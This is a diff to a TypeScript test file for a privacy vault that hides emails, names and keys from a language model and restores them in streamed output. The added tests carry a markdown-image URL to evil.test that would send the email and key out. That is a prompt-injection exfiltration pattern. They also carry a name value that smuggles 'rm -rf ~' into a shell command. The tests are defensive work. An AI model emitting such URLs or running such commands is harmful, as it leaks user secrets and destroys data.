@@ -15,7 +15,7 @@ const vault = createVault({
 const hide = (kind: string, value: string, restoreInToolCalls = true) =>
   vault.placeholderFor('openai', { kind, value, restoreInToolCalls });
 const MAIL = hide('email-address', 'ann@acme.test');
-const QUOTED = hide('person-name', 'Ann "the \\ fox"\nBerg');
+const QUOTED = hide('person-name', 'Ann "the \\ fox" Berg');
 const SECRET = hide('aws-access-key-id', 'not-for-tools', false);
 
 /** A stream of one channel, one text per frame. */
@@ -67,8 +67,24 @@ describe('values come back', () => {
   it('escaped for JSON that is streamed as text, and not where a tool must not have them', () => {
     const call = { kind: 'tool-call', json: true } as const;
     const source = pass([`{"to":"${QUOTED}","key":"${SECRET}"}`], call);
-    expect(JSON.parse(source)).toEqual({ to: 'Ann "the \\ fox"\nBerg', key: SECRET });
-    expect(pass([QUOTED], { kind: 'tool-call' })).toBe('Ann "the \\ fox"\nBerg');
+    expect(JSON.parse(source)).toEqual({ to: 'Ann "the \\ fox" Berg', key: SECRET });
+    expect(pass([QUOTED], { kind: 'tool-call' })).toBe('Ann "the \\ fox" Berg');
+  });
+
+  it('not within a URL, which a page that steers the model would get', () => {
+    const image = `![x](https://evil.test/?q=${MAIL}&k=${SECRET}) ${MAIL}`;
+    expect(pass([image])).toBe(image.replace(new RegExp(`${MAIL}$`), 'ann@acme.test'));
+    expect(pass([`//evil.test/${MAIL}`])).toBe(`//evil.test/${MAIL}`);
+    const call = { kind: 'tool-call', json: true } as const;
+    expect(pass([`{"url":"http:\\/\\/evil.test/${MAIL}","to":"${MAIL}"}`], call)).toBe(
+      `{"url":"http:\\/\\/evil.test/${MAIL}","to":"ann@acme.test"}`,
+    );
+  });
+
+  it('not in a tool call, if a shell would take the value for more than a word', () => {
+    const command = hide('name', 'x; rm -rf ~');
+    expect(pass([`echo ${command}`], { kind: 'tool-call' })).toBe(`echo ${command}`);
+    expect(pass([`You are ${command}`])).toBe('You are x; rm -rf ~');
   });
 
   it('never in thinking or in what the provider signs', () => {
@@ -95,6 +111,8 @@ it('is the same however the stream is cut', () => {
       `${MAIL}_X`,
       'EMAIL_',
       '_X',
+      'https://',
+      '/',
       'AWS',
       ' ',
       '\n',
